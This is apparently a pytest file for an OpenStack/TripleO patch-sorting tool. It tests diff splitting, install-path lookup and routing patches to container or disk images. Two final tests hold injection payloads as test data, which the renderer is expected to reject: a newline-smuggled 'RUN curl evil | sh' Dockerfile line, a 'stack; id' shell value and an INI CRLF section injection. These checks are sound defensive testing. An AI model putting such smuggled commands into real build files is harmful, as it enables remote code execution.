"""Sorting patches: diff sections dropped or routed, project install paths, images vs disk image."""

from __future__ import annotations

import pytest

from apex_tools.core.errors import SettingsError
from apex_tools.patching.patches import diff_paths, load_projects, sort_patch, split_diff, join_diff
from fake_gerrit import git_patch

CID = "I" + "1" * 40
DROP = ("releasenotes/*", "tests/*", "*/tests/*")
NOVA_IMAGES = ("nova-api", "nova-compute")


def nova_patch() -> str:
    return git_patch(CID, {
        "nova/api.py": ("a\n", "b\n"),
        "nova/tests/unit/test_api.py": ("t\n", "u\n"),
        "releasenotes/notes/fix-1234.yaml": ("", "fixes: [x]\n"),
        "setup.cfg": ("x\n", "y\n"),
        "doc/source/index.rst": ("d\n", "e\n"),
    })


def test_split_and_join_round_trip():
    text = nova_patch()
    preamble, sections = split_diff(text)
    assert preamble.startswith("From ") and "Change-Id: " + CID in preamble
    assert [s.path for s in sections] == diff_paths(text)
    assert join_diff(preamble, sections) == text
    assert join_diff(preamble, []) == ""


@pytest.mark.parametrize(
    "project, version, override, python, path",
    [
        ("openstack/nova", "queens", "", True, "/usr/lib/python2.7/site-packages"),
        ("openstack/nova", "master", "", True, "/usr/lib/python3.9/site-packages"),
        ("openstack/nova", "master", "/usr/lib/python3/dist-packages", True, "/usr/lib/python3/dist-packages"),
        ("openstack/puppet-tripleo", "master", "", False, "/etc/puppet/modules/tripleo"),
        ("openstack/tripleo-heat-templates", "rocky", "", False, "/usr/share/openstack-tripleo-heat-templates"),
        ("openstack/oslo.messaging", "train", "", True, "/usr/lib/python3.6/site-packages"),
    ],
    ids=["nova-queens-py27", "nova-master", "python-path-override", "puppet-module", "tht", "oslo-pattern"],
)
def test_project_locations(project, version, override, python, path):
    loc = load_projects().locate(project, version, override)
    assert (loc.python, loc.path) == (python, path)


def test_unknown_project_is_an_error_naming_it():
    with pytest.raises(SettingsError, match="'openstack/frobnicator': no install location"):
        load_projects().locate("openstack/frobnicator", "master")


def test_python_patch_goes_to_images_without_tests_notes_and_top_files():
    loc = load_projects().locate("openstack/nova", "master")
    result = sort_patch(nova_patch(), loc, "overcloud", NOVA_IMAGES, True, DROP)
    (part,) = result.parts
    assert part.destination == "containers" and part.images == NOVA_IMAGES
    assert diff_paths(part.text) == ["nova/api.py"]
    assert set(result.dropped) == {"nova/tests/unit/test_api.py", "releasenotes/notes/fix-1234.yaml",
                                   "setup.cfg", "doc/source/index.rst"}


@pytest.mark.parametrize(
    "side, containers, images, destination",
    [
        ("overcloud", False, NOVA_IMAGES, "overcloud"),
        ("undercloud", True, NOVA_IMAGES, "undercloud"),
        ("overcloud", True, (), "overcloud"),
    ],
    ids=["no-containers-disk-image", "undercloud-always-disk-image", "no-image-carries-it"],
)
def test_python_patch_falls_back_to_the_disk_image(side, containers, images, destination):
    loc = load_projects().locate("openstack/nova", "master")
    (part,) = sort_patch(nova_patch(), loc, side, images, containers, DROP).parts
    assert (part.destination, part.target_dir, part.images) == (destination, "/usr/lib/python3.9/site-packages", ())


def test_drop_patterns_are_configurable():
    loc = load_projects().locate("openstack/nova", "master")
    (part,) = sort_patch(nova_patch(), loc, "overcloud", NOVA_IMAGES, True, ("releasenotes/*",)).parts
    assert diff_paths(part.text) == ["nova/api.py", "nova/tests/unit/test_api.py"]


def test_tripleo_common_container_images_are_routed_apart():
    text = git_patch(CID, {"tripleo_common/image/base.py": ("a\n", "b\n"),
                           "container-images/overcloud_containers.yaml.j2": ("c\n", "d\n")})
    loc = load_projects().locate("openstack/tripleo-common", "master")
    parts = sort_patch(text, loc, "undercloud", (), True, DROP).parts
    assert [(p.destination, p.target_dir, diff_paths(p.text)) for p in parts] == [
        ("undercloud", "/usr/share/openstack-tripleo-common-containers",
         ["container-images/overcloud_containers.yaml.j2"]),
        ("undercloud", "/usr/lib/python3.9/site-packages", ["tripleo_common/image/base.py"]),
    ]


def test_puppet_patch_goes_to_the_overcloud_image_with_its_tests_dropped():
    text = git_patch(CID, {"manifests/profile/base/neutron.pp": ("a\n", "b\n"),
                           "spec/classes/neutron_spec.rb": ("c\n", "d\n")})
    loc = load_projects().locate("openstack/puppet-tripleo", "master")
    result = sort_patch(text, loc, "overcloud", (), True, DROP + ("spec/*",))
    (part,) = result.parts
    assert (part.destination, part.target_dir) == ("overcloud", "/etc/puppet/modules/tripleo")
    assert result.dropped == ("spec/classes/neutron_spec.rb",)


def test_patch_of_only_tests_has_no_parts():
    text = git_patch(CID, {"nova/tests/unit/test_x.py": ("a\n", "b\n")})
    loc = load_projects().locate("openstack/nova", "master")
    result = sort_patch(text, loc, "overcloud", NOVA_IMAGES, True, DROP)
    assert result.parts == () and result.dropped == ("nova/tests/unit/test_x.py",)


def test_a_value_with_a_control_character_is_never_rendered_into_a_dockerfile():
    from apex_tools.core.render_safety import RenderError
    from apex_tools.patching.dockerfile import ImagePatch, image_labels, render_dockerfile

    evil = ImagePatch("01-x.patch", "/usr/lib/python3/site-packages", "openstack/nova\nRUN curl evil | sh", "I" + "a" * 40,
                      "b" * 40)
    with pytest.raises(RenderError, match=r"control character \\n; refusing to write it into a dockerfile document"):
        render_dockerfile("registry/nova-api:tag", "nova", [evil], image_labels("registry/nova-api:tag", [evil]))
    good = [ImagePatch("01-x.patch", "/usr/lib/python3/site-packages", "openstack/nova", "I" + "a" * 40, "b" * 40)]
    assert "RUN cd /usr/lib" in render_dockerfile("registry/nova-api:tag", "nova", good,
                                                  image_labels("registry/nova-api:tag", good))


@pytest.mark.parametrize("kind, value, ok", [
    ("xml", "undercloud", True), ("xml", "a\x00b", False), ("yaml", "x\ny: 1", False), ("shell", "stack", True),
    ("shell", "stack; id", False), ("dockerfile", "a\u2028b", False), ("ini", "http://x/\r\n[evil]", False),
], ids=["xml-ok", "xml-nul", "yaml-newline", "shell-word", "shell-metachar", "dockerfile-line-separator", "ini-crlf"])
def test_one_rule_per_output_kind(kind, value, ok):
    from apex_tools.core.render_safety import RenderError, checked

    if ok:
        assert checked(kind, value, "test") == value
    else:
        with pytest.raises(RenderError):
            checked(kind, value, "test")


def test_xml_values_are_escaped():
    from apex_tools.core.templates import render

    xml = render("build", "undercloud/network.xml.j2", trim=True, name="a'<b>&", bridge="br-x")
    assert "a&#39;&lt;b&gt;&amp;" in xml and "<b>" not in xml
